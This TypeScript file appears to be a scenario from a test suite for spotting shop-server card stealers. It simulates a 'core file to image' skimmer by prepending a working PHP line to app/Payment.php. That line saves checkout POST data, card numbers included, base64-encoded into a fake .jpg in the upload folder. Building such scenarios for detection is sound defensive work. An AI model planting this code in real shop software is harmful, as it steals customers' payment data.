import { serverSide } from '../behaviour.ts';

export default serverSide({
  id: 'core-file-to-image',
  why: 'A core file takes the card where the order is handled and adds it, encoded, to a file in the upload folder that is called a picture and grows (11 of 29 stealers; hardest 1; the Japanese pattern of 2021-24).',
  covers: [
    'server: modified core file',
    'server: false image',
    'server: address gate',
    'hard: server capture',
  ],
  strike: ({ read, write }) => {
    const tap =
      "if (strpos($_SERVER['REQUEST_URI'], 'checkout') !== false && isset($_POST['card_number'])) { file_put_contents(__DIR__ . '/../html/upload/save_image/0417.jpg', base64_encode(json_encode($_POST)) . \"\\n\", FILE_APPEND); }\n";
    write('app/Payment.php', read('app/Payment.php').replace('<?php\n', `<?php\n${tap}`));
    write(
      'html/upload/save_image/0417.jpg',
      `${Buffer.from('{"card_number":"4881460000000000"}').toString('base64')}\n`.repeat(3),
    );
  },
});
